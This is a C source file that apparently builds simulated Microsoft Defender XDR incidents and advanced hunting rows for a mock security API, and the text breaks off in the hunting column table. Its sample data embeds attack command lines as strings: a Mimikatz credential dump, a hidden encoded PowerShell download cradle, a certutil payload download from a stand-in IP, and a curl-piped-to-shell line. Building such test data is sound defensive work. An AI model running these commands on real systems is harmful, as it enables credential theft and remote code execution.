/*
 * sim_data.c: the simulation's data. Six realistic Defender XDR incidents
 * (MDE, MDO, MDCA, Entra ID Protection, MDI), kept in an in-memory store
 * that PATCH can change, and a generator of DeviceProcessEvents-like
 * advanced hunting rows that streams any number of rows in little memory.
 *
 * Threads: the store has its own mutex; any MHD thread may use it. A
 * struct sim_hunt belongs to one response and is used by one thread.
 * Ownership: the store owns its cJSON tree; every string returned is a
 * malloc'd copy owned by the caller.
 */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cjson/cJSON.h>

#include "buf.h"
#include "sim_int.h"
#include "util.h"

#define ODATA_INCIDENTS \
	"https://api.security.microsoft.com/api/$metadata#Incidents"

struct sim_store {
	pthread_mutex_t	 mtx;
	cJSON		*incidents;	/* array, most recent first */
};

void
sim_time7(long long sec, long frac7, char *out, size_t len)
{
	struct tm	 tm;
	time_t		 tt = (time_t)sec;
	char		 d[24];

	if (gmtime_r(&tt, &tm) == NULL ||
	    strftime(d, sizeof(d), "%Y-%m-%dT%H:%M:%S", &tm) == 0) {
		snprintf(out, len, "1970-01-01T00:00:00.0000000Z");
		return;
	}
	snprintf(out, len, "%s.%07ldZ", d, frac7 % 10000000L);
}

/* Add a time `ago` seconds before t0 (with a fraction derived from it). */
static void
add_time(cJSON *o, const char *name, long long t0, long long ago)
{
	char	 ts[40];

	sim_time7(t0 - ago, (long)((ago * 7919 + 1234567) % 10000000), ts,
	    sizeof(ts));
	cJSON_AddStringToObject(o, name, ts);
}

static void
add_str_or_null(cJSON *o, const char *name, const char *v)
{
	if (v != NULL)
		cJSON_AddStringToObject(o, name, v);
	else
		cJSON_AddNullToObject(o, name);
}

static cJSON *
str_array(const char *csv)
{
	cJSON		*a = cJSON_CreateArray();
	const char	*p = csv, *e;
	char		 item[128];

	while (p != NULL && *p != '\0') {
		e = strchr(p, ',');
		snprintf(item, sizeof(item), "%.*s",
		    (int)(e ? (size_t)(e - p) : strlen(p)), p);
		cJSON_AddItemToArray(a, cJSON_CreateString(item));
		p = e ? e + 1 : NULL;
	}
	return (a);
}

/* ---- devices and entities ---- */

struct dev {
	const char	*id, *aad, *dns, *os, *ver, *risk, *group;
	const char	*user, *domain;
	long		 build;
};

static const struct dev devs[] = {
	{ "9f3c1a2b7e4d8c6f0a5b3e1d2c4f6a8b0e2d4c6a",
	  "5e1f2a3b-4c5d-4e6f-8a7b-9c0d1e2f3a4b", "ws-fin-023.corp.contoso.com",
	  "Windows11", "22H2", "High", "Finance workstations",
	  "j.miller", "CORP", 22621 },
	{ "2b4d6f8a0c1e3a5c7e9b1d3f5a7c9e1b3d5f7a9c",
	  "7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d", "srv-file-01.corp.contoso.com",
	  "WindowsServer2019", "1809", "High", "Servers",
	  "svc-backup", "CORP", 17763 },
	{ "c8e6a4f2d0b9e7c5a3f1d9b7e5c3a1f9d7b5e3c1",
	  "1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f", "dc-01.corp.contoso.com",
	  "WindowsServer2022", "21H2", "Medium", "Domain controllers",
	  "administrator", "CORP", 20348 },
	{ "4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b",
	  "9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a", "mac-dev-117.corp.contoso.com",
	  "macOS", "14.4", "Low", "Developers",
	  "a.chen", "corp.contoso.com", 0 },
};

size_t
sim_ndevices(void)
{
	return (sizeof(devs) / sizeof(devs[0]));
}

cJSON *
sim_device(size_t i, long long t0)
{
	const struct dev	*d = &devs[i % sim_ndevices()];
	cJSON			*o = cJSON_CreateObject(), *u, *lu;

	cJSON_AddStringToObject(o, "mdatpDeviceId", d->id);
	cJSON_AddStringToObject(o, "aadDeviceId", d->aad);
	cJSON_AddStringToObject(o, "deviceDnsName", d->dns);
	cJSON_AddStringToObject(o, "osPlatform", d->os);
	cJSON_AddStringToObject(o, "version", d->ver);
	cJSON_AddStringToObject(o, "osProcessor", d->build ? "x64" : "arm64");
	if (d->build)
		cJSON_AddNumberToObject(o, "osBuild", (double)d->build);
	else
		cJSON_AddNullToObject(o, "osBuild");
	cJSON_AddStringToObject(o, "healthStatus", "Active");
	cJSON_AddStringToObject(o, "riskScore", d->risk);
	cJSON_AddStringToObject(o, "rbacGroupName", d->group);
	add_time(o, "firstSeen", t0, 86400LL * (211 + (long long)i * 37));
	cJSON_AddItemToObject(o, "tags", cJSON_CreateArray());
	cJSON_AddStringToObject(o, "defenderAvStatus", "Updated");
	cJSON_AddStringToObject(o, "onboardingStatus", "Onboarded");
	cJSON_AddNullToObject(o, "vmMetadata");
	lu = cJSON_CreateArray();
	u = cJSON_CreateObject();
	cJSON_AddStringToObject(u, "accountName", d->user);
	cJSON_AddStringToObject(u, "domainName", d->domain);
	cJSON_AddItemToArray(lu, u);
	cJSON_AddItemToObject(o, "loggedOnUsers", lu);
	return (o);
}

static cJSON *
ent(cJSON *ents, const char *type)
{
	cJSON	*o = cJSON_CreateObject();

	cJSON_AddStringToObject(o, "entityType", type);
	cJSON_AddItemToArray(ents, o);
	return (o);
}

static void
ent_user(cJSON *ents, const char *acct, const char *upn, const char *dom,
    const char *aad)
{
	cJSON	*o = ent(ents, "User");

	cJSON_AddStringToObject(o, "accountName", acct);
	cJSON_AddStringToObject(o, "userPrincipalName", upn);
	cJSON_AddStringToObject(o, "domainName", dom);
	cJSON_AddStringToObject(o, "aadUserId", aad);
	cJSON_AddNullToObject(o, "userSid");
}

static void
ent_file(cJSON *ents, const char *name, const char *path, const char *sha1,
    const char *sha256, const char *verdict, long long t0)
{
	cJSON	*o = ent(ents, "File");

	cJSON_AddStringToObject(o, "sha1", sha1);
	cJSON_AddStringToObject(o, "sha256", sha256);
	cJSON_AddStringToObject(o, "fileName", name);
	cJSON_AddStringToObject(o, "filePath", path);
	add_time(o, "evidenceCreationTime", t0, 3500);
	cJSON_AddStringToObject(o, "remediationStatus", "Prevented");
	cJSON_AddStringToObject(o, "verdict", verdict);
	cJSON_AddStringToObject(o, "detectionStatus", "Prevented");
}

static void
ent_process(cJSON *ents, long pid, const char *cmd, long ppid, long long t0)
{
	cJSON	*o = ent(ents, "Process");

	cJSON_AddNumberToObject(o, "processId", (double)pid);
	cJSON_AddStringToObject(o, "processCommandLine", cmd);
	add_time(o, "processCreationTime", t0, 3620);
	cJSON_AddNumberToObject(o, "parentProcessId", (double)ppid);
	add_time(o, "parentProcessCreationTime", t0, 9050);
	cJSON_AddStringToObject(o, "remediationStatus", "None");
	cJSON_AddStringToObject(o, "verdict", "Suspicious");
}

static void
ent_simple(cJSON *ents, const char *type, const char *key, const char *val)
{
	cJSON	*o = ent(ents, type);

	cJSON_AddStringToObject(o, key, val);
}

static void
ent_mail(cJSON *ents, const char *from, const char *to, const char *subject,
    long long t0)
{
	cJSON	*o;

	o = ent(ents, "MailBox");
	cJSON_AddStringToObject(o, "mailboxDisplayName", "Jordan Miller");
	cJSON_AddStringToObject(o, "mailboxAddress", to);
	cJSON_AddStringToObject(o, "displayName", "Jordan Miller");
	o = ent(ents, "MailMessage");
	cJSON_AddStringToObject(o, "networkMessageId",
	    "a3b1e7f2-9c4d-4e8a-b6f1-08dc4e2a7b91");
	cJSON_AddStringToObject(o, "sender", from);
	cJSON_AddStringToObject(o, "recipient", to);
	cJSON_AddStringToObject(o, "subject", subject);
	add_time(o, "receivedDate", t0, 5400);
	cJSON_AddStringToObject(o, "deliveryAction", "Delivered");
	cJSON_AddStringToObject(o, "deliveryLocation", "Inbox/folder");
}

/* ---- alerts and incidents ---- */

struct alert_def {
	const char	*id, *source, *detsrc, *title, *desc, *category;
	const char	*severity, *status, *threat, *mitre;
	long long	 created_ago, first_ago, last_ago;
};

static cJSON *
alert(long long incid, const struct alert_def *a, long long t0,
    const char *resolved_class)
{
	cJSON	*o = cJSON_CreateObject();

	cJSON_AddStringToObject(o, "alertId", a->id);
	cJSON_AddNumberToObject(o, "incidentId", (double)incid);
	cJSON_AddStringToObject(o, "serviceSource", a->source);
	add_time(o, "creationTime", t0, a->created_ago);
	add_time(o, "lastUpdatedTime", t0, a->created_ago - 61);
	if (strcmp(a->status, "Resolved") == 0)
		add_time(o, "resolvedTime", t0, a->created_ago - 1800);
	else
		cJSON_AddNullToObject(o, "resolvedTime");
	add_time(o, "firstActivity", t0, a->first_ago);
	add_time(o, "lastActivity", t0, a->last_ago);
	cJSON_AddStringToObject(o, "title", a->title);
	cJSON_AddStringToObject(o, "description", a->desc);
	cJSON_AddStringToObject(o, "category", a->category);
	cJSON_AddStringToObject(o, "status", a->status);
	cJSON_AddStringToObject(o, "severity", a->severity);
	if (strcmp(a->source, "MicrosoftDefenderForEndpoint") == 0) {
		cJSON_AddNumberToObject(o, "investigationId",
		    (double)(incid % 100000 + 1203));
		cJSON_AddStringToObject(o, "investigationState",
		    "PendingApproval");
	} else {
		cJSON_AddNullToObject(o, "investigationId");
		cJSON_AddStringToObject(o, "investigationState",
		    "UnsupportedAlertType");
	}
	add_str_or_null(o, "classification", resolved_class);
	add_str_or_null(o, "determination", resolved_class ?
	    "CompromisedAccount" : NULL);
	cJSON_AddStringToObject(o, "detectionSource", a->detsrc);
	cJSON_AddStringToObject(o, "detectorId",
	    "7f1c2e3d-4b5a-4968-8776-a5b4c3d2e1f0");
	cJSON_AddNullToObject(o, "assignedTo");
	cJSON_AddNullToObject(o, "actorName");
	add_str_or_null(o, "threatFamilyName", a->threat);
	cJSON_AddItemToObject(o, "mitreTechniques", str_array(a->mitre));
	return (o);
}

static cJSON *
incident(long long id, const char *name, long long t0, long long created_ago,
    long long updated_ago, const char *assigned, const char *classification,
    const char *determination, const char *detsrc, const char *status,
    const char *severity, const char *tags)
{
	cJSON	*o = cJSON_CreateObject();
	char	 uri[96];

	snprintf(uri, sizeof(uri),
	    "https://security.microsoft.com/incidents/%lld", id);
	cJSON_AddNumberToObject(o, "incidentId", (double)id);
	cJSON_AddStringToObject(o, "incidentUri", uri);
	cJSON_AddNullToObject(o, "redirectIncidentId");
	cJSON_AddStringToObject(o, "incidentName", name);
	add_time(o, "createdTime", t0, created_ago);
	add_time(o, "lastUpdateTime", t0, updated_ago);
	add_str_or_null(o, "assignedTo", assigned);
	cJSON_AddStringToObject(o, "classification", classification);
	cJSON_AddStringToObject(o, "determination", determination);
	cJSON_AddStringToObject(o, "detectionSource", detsrc);
	cJSON_AddStringToObject(o, "status", status);
	cJSON_AddStringToObject(o, "severity", severity);
	cJSON_AddItemToObject(o, "tags", str_array(tags));
	cJSON_AddItemToObject(o, "comments", cJSON_CreateArray());
	cJSON_AddItemToObject(o, "alerts", cJSON_CreateArray());
	return (o);
}

static cJSON *
add_alert(cJSON *inc, const struct alert_def *a, long long t0,
    const char *resolved_class)
{
	cJSON	*al, *id;

	id = cJSON_GetObjectItemCaseSensitive(inc, "incidentId");
	al = alert((long long)id->valuedouble, a, t0, resolved_class);
	cJSON_AddItemToArray(cJSON_GetObjectItemCaseSensitive(inc, "alerts"),
	    al);
	cJSON_AddItemToObject(al, "devices", cJSON_CreateArray());
	cJSON_AddItemToObject(al, "entities", cJSON_CreateArray());
	return (al);
}

#define DEVS(al)	cJSON_GetObjectItemCaseSensitive(al, "devices")
#define ENTS(al)	cJSON_GetObjectItemCaseSensitive(al, "entities")

static void
add_comment(cJSON *inc, const char *text, const char *by, long long t0,
    long long ago)
{
	cJSON	*c = cJSON_CreateObject();

	cJSON_AddStringToObject(c, "comment", text);
	cJSON_AddStringToObject(c, "createdBy", by);
	add_time(c, "createdTime", t0, ago);
	cJSON_AddItemToArray(cJSON_GetObjectItemCaseSensitive(inc, "comments"),
	    c);
}

static const struct alert_def a_ps = {
	"da638462117520871344_-1294875312", "MicrosoftDefenderForEndpoint",
	"WindowsDefenderAtp", "Suspicious PowerShell command line",
	"A suspicious PowerShell activity was observed on the machine. This "
	"behavior may indicate that PowerShell was used during installation, "
	"exploration, or in some cases in lateral movement activities.",
	"Execution", "Medium", "New", NULL, "T1059.001,T1027",
	3720, 3900, 3660 };
static const struct alert_def a_mimi = {
	"da638462118011234567_1783410271", "MicrosoftDefenderForEndpoint",
	"WindowsDefenderAv", "'Mimikatz' credential theft tool",
	"The credential theft tool Mimikatz was detected and was active on "
	"the device. Mimikatz dumps credentials from memory (LSASS) and can "
	"be used to move laterally with stolen hashes.",
	"CredentialAccess", "High", "New", "Mimikatz", "T1003.001",
	3560, 3600, 3590 };
static const struct alert_def a_ransom = {
	"da638461987654321098_-918273645", "MicrosoftDefenderForEndpoint",
	"WindowsDefenderAtp", "Ransomware behavior detected in the file system",
	"A process changed a large number of files in a pattern that "
	"resembles ransomware encryption. Files were renamed with the "
	"'.lockbit' extension.",
	"Ransomware", "High", "InProgress", "LockBit", "T1486,T1490",
	14400, 15000, 14380 };
static const struct alert_def a_phish = {
	"fa5c0f1e2d-3b4a-4c69-8e7f-60a1b2c3d4e5", "MicrosoftDefenderForOffice365",
	"MicrosoftDefenderForOffice365", "Email reported by user as malware "
	"or phish", "This alert is triggered when any email message is "
	"reported as malware or phish by users.",
	"InitialAccess", "Informational", "New", NULL, "T1566.002",
	5400, 5500, 5450 };
static const struct alert_def a_travel = {
	"ca4f8e2d1b7c6a5e3d9f0b8a7c6e5d4f3a2b1c0d", "MicrosoftCloudAppSecurity",
	"MCAS", "Impossible travel activity",
	"The user a.chen@contoso.com performed activities from Amsterdam, NL "
	"and Singapore, SG within 22 minutes.",
	"InitialAccess", "Medium", "Resolved", NULL, "T1078",
	90000, 91000, 90500 };
static const struct alert_def a_tor = {
	"ad2c4e6f8a0b1d3f5e7a9c1b3d5f7e9a1c3b5d7f9e", "AzureAdIdentityProtection",
	"AzureAdIdentityProtection", "Anonymous IP address",
	"Sign-in from an anonymous IP address (Tor exit node 185.220.101.45) "
	"for user r.ortiz@contoso.com.",
	"InitialAccess", "Medium", "New", NULL, "T1090.003",
	7200, 7300, 7250 };
static const struct alert_def a_dcsync = {
	"aa7e1f0c-9d8b-4a7c-b6e5-d4c3b2a1f0e9", "AzureATP", "AzureATP",
	"Suspected DCSync attack (replication of directory services)",
	"svc-backup on srv-file-01 sent 3 replication requests to dc-01, "
	"asking for the password hashes of 1 account, including krbtgt.",
	"CredentialAccess", "High", "New", NULL, "T1003.006",
	1800, 1900, 1850 };

/* The six incidents, newest first, times relative to now. */
static cJSON *
build_incidents(long long t0)
{
	cJSON	*arr = cJSON_CreateArray(), *inc, *al, *e;

	inc = incident(20391, "Multi-stage incident involving Execution & "
	    "Credential access on one endpoint", t0, 3720, 1800, NULL,
	    "Unknown", "NotAvailable", "WindowsDefenderAtp", "Active", "High",
	    "");
	al = add_alert(inc, &a_dcsync, t0, NULL);
	cJSON_AddItemToArray(DEVS(al), sim_device(2, t0));
	e = ENTS(al);
	ent_user(e, "svc-backup", "svc-backup@corp.contoso.com", "CORP",
	    "3f2e1d0c-b9a8-4765-8432-10fedcba9876");
	ent_simple(e, "Ip", "ipAddress", "10.20.4.17");
	al = add_alert(inc, &a_mimi, t0, NULL);
	cJSON_AddItemToArray(DEVS(al), sim_device(1, t0));
	e = ENTS(al);
	ent_file(e, "mimikatz.exe", "C:\\ProgramData\\Temp",
	    "d241df7b9d2ec0b8194751cd5ce153e27cc40fa4",
	    "92804faaab2175dc501d73e814663058c78c0a042675a8937266357bcfb96c50",
	    "Malicious", t0);
	ent_process(e, 7412, "mimikatz.exe \"privilege::debug\" "
	    "\"sekurlsa::logonpasswords\" exit", 5120, t0);
	al = add_alert(inc, &a_ps, t0, NULL);
	cJSON_AddItemToArray(DEVS(al), sim_device(1, t0));
	e = ENTS(al);
	ent_process(e, 5120, "powershell.exe -nop -w hidden -enc "
	    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA",
	    3988, t0);
	ent_simple(e, "Url", "url", "http://198.51.100.23/a.ps1");
	cJSON_AddItemToArray(arr, inc);

	inc = incident(20388, "Email reported by user as malware or phish",
	    t0, 5400, 5300, NULL, "Unknown", "NotAvailable",
	    "MicrosoftDefenderForOffice365", "Active", "Informational",
	    "UserReported");
	al = add_alert(inc, &a_phish, t0, NULL);
	e = ENTS(al);
	ent_mail(e, "it-helpdesk@contoso-support.net",
	    "j.miller@contoso.com", "Action required: password expires "
	    "today", t0);
	ent_simple(e, "Url", "url",
	    "https://contoso-support.net/owa/reset?u=j.miller");
	cJSON_AddItemToArray(arr, inc);

	inc = incident(20385, "Anonymous IP address involving one user", t0,
	    7200, 7100, NULL, "Unknown", "NotAvailable",
	    "AzureAdIdentityProtection", "Active", "Medium", "");
	al = add_alert(inc, &a_tor, t0, NULL);
	e = ENTS(al);
	ent_user(e, "r.ortiz", "r.ortiz@contoso.com", "contoso.com",
	    "8b7a6c5d-4e3f-4a2b-9c1d-0e9f8a7b6c5d");
	ent_simple(e, "Ip", "ipAddress", "185.220.101.45");
	cJSON_AddItemToArray(arr, inc);

	inc = incident(20377, "Ransomware activity on one endpoint", t0, 14400,
	    9000, "secop2@contoso.com", "Unknown", "NotAvailable",
	    "WindowsDefenderAtp", "InProgress", "High", "Ransomware,Finance");
	al = add_alert(inc, &a_ransom, t0, NULL);
	cJSON_AddItemToArray(DEVS(al), sim_device(0, t0));
	e = ENTS(al);
	ent_user(e, "j.miller", "j.miller@contoso.com", "CORP",
	    "0a1b2c3d-4e5f-4061-8273-94a5b6c7d8e9");
	ent_file(e, "lb3.exe", "C:\\Users\\j.miller\\AppData\\Local\\Temp",
	    "f4e8b2a6c0d9e3f7a1b5c9d3e7f1a5b9c3d7e1f5",
	    "a1f6b3c8d2e7f4a9b6c1d8e3f0a5b2c7d4e9f6a3b8c5d2e7f4a1b6c3d8e5f2a7",
	    "Malicious", t0);
	ent_simple(e, "Registry", "registryKey",
	    "HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion"
	    "\\Run");
	add_comment(inc, "Device isolated, collecting investigation package.",
	    "secop2@contoso.com", t0, 10800);
	cJSON_AddItemToArray(arr, inc);

	inc = incident(20359, "Impossible travel activity involving one user",
	    t0, 90000, 86000, "secop1@contoso.com", "TruePositive",
	    "CompromisedAccount", "MCAS", "Resolved", "Medium", "");
	al = add_alert(inc, &a_travel, t0, "TruePositive");
	cJSON_AddItemToArray(DEVS(al), sim_device(3, t0));
	e = ENTS(al);
	ent_user(e, "a.chen", "a.chen@contoso.com", "contoso.com",
	    "6e5d4c3b-2a19-4087-b6a5-c4d3e2f1a0b9");
	ent_simple(e, "Ip", "ipAddress", "203.0.113.77");
	ent_simple(e, "Ip", "ipAddress", "192.0.2.141");
	add_comment(inc, "Password reset and sessions revoked; user confirmed "
	    "the Singapore sign-in was not theirs.", "secop1@contoso.com", t0,
	    86100);
	cJSON_AddItemToArray(arr, inc);

	inc = incident(20342, "Suspicious PowerShell command line on one "
	    "endpoint", t0, 259200, 172800, "secop1@contoso.com",
	    "InformationalExpectedActivity", "SecurityTesting",
	    "WindowsDefenderAtp", "Resolved", "Low", "PenTest");
	al = add_alert(inc, &a_ps, t0, NULL);
	cJSON_ReplaceItemInObjectCaseSensitive(al, "alertId",
	    cJSON_CreateString("da638459501234567890_402919375"));
	cJSON_ReplaceItemInObjectCaseSensitive(al, "status",
	    cJSON_CreateString("Resolved"));
	cJSON_AddItemToArray(DEVS(al), sim_device(0, t0));
	e = ENTS(al);
	ent_process(e, 6120, "powershell.exe -ExecutionPolicy Bypass -File "
	    "\\\\srv-file-01\\pentest\\Invoke-Recon.ps1", 4410, t0);
	add_comment(inc, "Red team exercise, ticket SEC-4411.",
	    "secop1@contoso.com", t0, 173000);
	cJSON_AddItemToArray(arr, inc);
	return (arr);
}

/* ---- OData lists ---- */

char *
sim_odata_page(const char *context, cJSON *items, long top, long skip,
    const char *next_base)
{
	cJSON	*o = cJSON_CreateObject(), *val = cJSON_CreateArray(), *it;
	char	 next[512], *txt;
	long	 i = 0, n = 0, total = cJSON_GetArraySize(items);

	cJSON_AddStringToObject(o, "@odata.context", context);
	if (next_base != NULL && top >= 0 && skip + top < total) {
		snprintf(next, sizeof(next), "%s?$top=%ld&$skip=%ld",
		    next_base, top, skip + top);
		cJSON_AddStringToObject(o, "@odata.nextLink", next);
	}
	while ((it = cJSON_DetachItemFromArray(items, 0)) != NULL) {
		if (i++ < skip || (top >= 0 && n >= top)) {
			cJSON_Delete(it);
			continue;
		}
		cJSON_AddItemToArray(val, it);
		n++;
	}
	cJSON_Delete(items);
	cJSON_AddItemToObject(o, "value", val);
	txt = cJSON_PrintUnformatted(o);
	cJSON_Delete(o);
	return (txt);
}

char *
sim_odata_entity(cJSON *list, const char *id, const char *context)
{
	cJSON		*it, *o = NULL;
	const cJSON	*v;

	cJSON_ArrayForEach(it, list) {
		v = cJSON_GetObjectItemCaseSensitive(it, "id");
		if (cJSON_IsString(v) && strcmp(v->valuestring, id) == 0) {
			o = cJSON_DetachItemViaPointer(list, it);
			break;
		}
	}
	cJSON_Delete(list);
	if (o == NULL)
		return (NULL);
	cJSON_AddStringToObject(o, "@odata.context", context);
	return (sim_print_context_first(o));
}

void
sim_json_copy(cJSON *out, const char *to, const cJSON *o, const char *from)
{
	const cJSON	*v = o ? cJSON_GetObjectItemCaseSensitive(o, from) :
			    NULL;

	cJSON_AddItemToObject(out, to, v ? cJSON_Duplicate(v, 1) :
	    cJSON_CreateNull());
}

char *
sim_print_context_first(cJSON *o)
{
	cJSON	*ctx, *wrap = cJSON_CreateObject(), *it;
	char	*txt;

	if ((ctx = cJSON_DetachItemFromObjectCaseSensitive(o,
	    "@odata.context")) != NULL)
		cJSON_AddItemToObject(wrap, "@odata.context", ctx);
	while ((it = o->child) != NULL) {
		cJSON_DetachItemViaPointer(o, it);
		cJSON_AddItemToObject(wrap, it->string, it);
	}
	cJSON_Delete(o);
	txt = cJSON_PrintUnformatted(wrap);
	cJSON_Delete(wrap);
	return (txt);
}

/* ---- the store ---- */

struct sim_store *
sim_store_new(void)
{
	struct sim_store *s = xcalloc(1, sizeof(*s));

	pthread_mutex_init(&s->mtx, NULL);
	s->incidents = build_incidents(util_now());
	return (s);
}

void
sim_store_free(struct sim_store *s)
{
	if (s == NULL)
		return;
	cJSON_Delete(s->incidents);
	pthread_mutex_destroy(&s->mtx);
	free(s);
}

void
sim_store_reset(struct sim_store *s)
{
	cJSON	*fresh = build_incidents(util_now()), *old;

	pthread_mutex_lock(&s->mtx);
	old = s->incidents;
	s->incidents = fresh;
	pthread_mutex_unlock(&s->mtx);
	cJSON_Delete(old);
}

/* Caller holds the lock. */
static cJSON *
find(struct sim_store *s, long long id)
{
	cJSON	*inc, *v;

	cJSON_ArrayForEach(inc, s->incidents) {
		v = cJSON_GetObjectItemCaseSensitive(inc, "incidentId");
		if (cJSON_IsNumber(v) && (long long)v->valuedouble == id)
			return (inc);
	}
	return (NULL);
}

char *
sim_store_list(struct sim_store *s, long top, long skip)
{
	cJSON	*o = cJSON_CreateObject(), *val = cJSON_CreateArray(), *inc;
	char	*txt;
	long	 i = 0, n = 0;

	cJSON_AddStringToObject(o, "@odata.context", ODATA_INCIDENTS);
	cJSON_AddItemToObject(o, "value", val);
	pthread_mutex_lock(&s->mtx);
	cJSON_ArrayForEach(inc, s->incidents) {
		if (i++ < skip)
			continue;
		if (top >= 0 && n >= top)
			break;
		cJSON_AddItemToArray(val, cJSON_Duplicate(inc, 1));
		n++;
	}
	pthread_mutex_unlock(&s->mtx);
	txt = cJSON_PrintUnformatted(o);
	cJSON_Delete(o);
	return (txt);
}

cJSON *
sim_store_snapshot(struct sim_store *s)
{
	cJSON	*copy;

	pthread_mutex_lock(&s->mtx);
	copy = cJSON_Duplicate(s->incidents, 1);
	pthread_mutex_unlock(&s->mtx);
	return (copy);
}

char *
sim_store_get(struct sim_store *s, long long id)
{
	cJSON	*inc;
	char	*txt = NULL;

	pthread_mutex_lock(&s->mtx);
	if ((inc = find(s, id)) != NULL)
		txt = cJSON_PrintUnformatted(inc);
	pthread_mutex_unlock(&s->mtx);
	return (txt);
}

static int
patch_ok(const cJSON *p, const char **msg)
{
	static const char *strs[] = { "status", "classification",
	    "determination", "comment" };
	const cJSON	*v, *t;

	if (!cJSON_IsObject(p)) {
		*msg = "Request body must be a JSON object";
		return (0);
	}
	for (size_t i = 0; i < sizeof(strs) / sizeof(strs[0]); i++) {
		v = cJSON_GetObjectItemCaseSensitive(p, strs[i]);
		if (v != NULL && !cJSON_IsString(v)) {
			*msg = "Invalid value type for a string property";
			return (0);
		}
	}
	v = cJSON_GetObjectItemCaseSensitive(p, "assignedTo");
	if (v != NULL && !cJSON_IsString(v) && !cJSON_IsNull(v)) {
		*msg = "Invalid value for property assignedTo";
		return (0);
	}
	v = cJSON_GetObjectItemCaseSensitive(p, "tags");
	if (v != NULL) {
		if (!cJSON_IsArray(v)) {
			*msg = "Invalid value for property tags";
			return (0);
		}
		cJSON_ArrayForEach(t, v) {
			if (!cJSON_IsString(t)) {
				*msg = "Invalid value for property tags";
				return (0);
			}
		}
	}
	return (1);
}

static void
set_field(cJSON *inc, const cJSON *p, const char *name)
{
	const cJSON	*v = cJSON_GetObjectItemCaseSensitive(p, name);

	if (v == NULL)
		return;
	cJSON_ReplaceItemInObjectCaseSensitive(inc, name,
	    cJSON_Duplicate(v, 1));
}

int
sim_store_patch(struct sim_store *s, long long id, const cJSON *p,
    const char *author, char **out, const char **msg)
{
	cJSON		*inc, *v;
	char		 ts[40];
	struct timespec	 now;

	*out = NULL;
	if (!patch_ok(p, msg))
		return (-2);
	clock_gettime(CLOCK_REALTIME, &now);
	sim_time7((long long)now.tv_sec, now.tv_nsec / 100, ts, sizeof(ts));
	pthread_mutex_lock(&s->mtx);
	if ((inc = find(s, id)) == NULL) {
		pthread_mutex_unlock(&s->mtx);
		return (-1);
	}
	set_field(inc, p, "status");
	set_field(inc, p, "assignedTo");
	set_field(inc, p, "classification");
	set_field(inc, p, "determination");
	set_field(inc, p, "tags");
	v = cJSON_GetObjectItemCaseSensitive(p, "comment");
	if (v != NULL) {
		cJSON *c = cJSON_CreateObject();

		cJSON_AddStringToObject(c, "comment", v->valuestring);
		cJSON_AddStringToObject(c, "createdBy", author);
		cJSON_AddStringToObject(c, "createdTime", ts);
		cJSON_AddItemToArray(cJSON_GetObjectItemCaseSensitive(inc,
		    "comments"), c);
	}
	cJSON_ReplaceItemInObjectCaseSensitive(inc, "lastUpdateTime",
	    cJSON_CreateString(ts));
	*out = cJSON_PrintUnformatted(inc);
	pthread_mutex_unlock(&s->mtx);
	return (0);
}

/* ---- advanced hunting (DeviceProcessEvents-like rows) ---- */

struct proc {
	const char	*file, *folder, *sha256, *cmd, *ifile, *icmd, *parent;
};

static const struct proc procs[] = {
	{ "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
	  "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
	  "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "
	  "\"Get-ScheduledTask | Where State -eq 'Ready'\"",
	  "cmd.exe", "cmd.exe /c schedule-check.cmd", "explorer.exe" },
	{ "cmd.exe", "C:\\Windows\\System32",
	  "b99d61d874728edc0918ca0eb10eab93d381e7367e377406e65963366c874450",
	  "cmd.exe /c whoami /all", "powershell.exe",
	  "powershell.exe -nop -w hidden", "winword.exe" },
	{ "rundll32.exe", "C:\\Windows\\System32",
	  "01b407af0200b66a34ec9cc19b0d4ad5e0a3e9c2d4f8f2e5b7a19a4b0f1c8e73",
	  "rundll32.exe C:\\Users\\Public\\update.dll,DllRegisterServer",
	  "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule",
	  "services.exe" },
	{ "certutil.exe", "C:\\Windows\\System32",
	  "5a4ca7e1f0b3d8e6c9a2f5b8e1d4c7a0f3b6e9d2c5a8f1b4e7d0c3a6f9b2e5d8",
	  "certutil.exe -urlcache -split -f http://198.51.100.23/p.bin "
	  "C:\\Users\\Public\\p.bin", "cmd.exe", "cmd.exe /c dl.cmd",
	  "powershell.exe" },
	{ "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
	  "9c2f6a1e4d7b0c3f8e5a2d9b6c1f4e7a0d3b8c5f2e9a6d1b4c7f0e3a8d5b2c9f",
	  "\"msedge.exe\" --type=renderer --lang=en-US", "msedge.exe",
	  "\"msedge.exe\" --profile-directory=Default", "explorer.exe" },
	{ "svchost.exe", "C:\\Windows\\System32",
	  "643ec58e82e0272c97c2a59f6020970d881af19c0ad5029db9c958c13b6558c7",
	  "svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
	  "services.exe", "C:\\Windows\\system32\\services.exe", "wininit.exe" },
	{ "net.exe", "C:\\Windows\\System32",
	  "25c8266e2a8e8b6b5b2e1a4f7d0c3b6e9a2d5f8c1b4e7a0d3f6c9b2e5a8d1f4c",
	  "net.exe group \"Domain Admins\" /domain", "cmd.exe",
	  "cmd.exe /c recon.bat", "powershell.exe" },
	{ "zsh", "/bin",
	  "c1e0a6b5d4f3e2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7",
	  "/bin/zsh -c 'curl -fsSL https://example.org/install.sh | sh'",
	  "Terminal", "/System/Applications/Utilities/Terminal.app",
	  "launchd" },
};

static const char *const hunt_cols[][2] = {
	{ "Timestamp", "DateTime" }, { "DeviceId", "String" },
	{ "DeviceName", "String" }, { "ActionType", "String" },
	{ "FileName", "String" }, { "FolderPath", "String" },
	{ "SHA256", "String" }, { "ProcessId", "Int64" },
	{ "ProcessCommandLine", "String" }, { "AccountDomain", "String" },
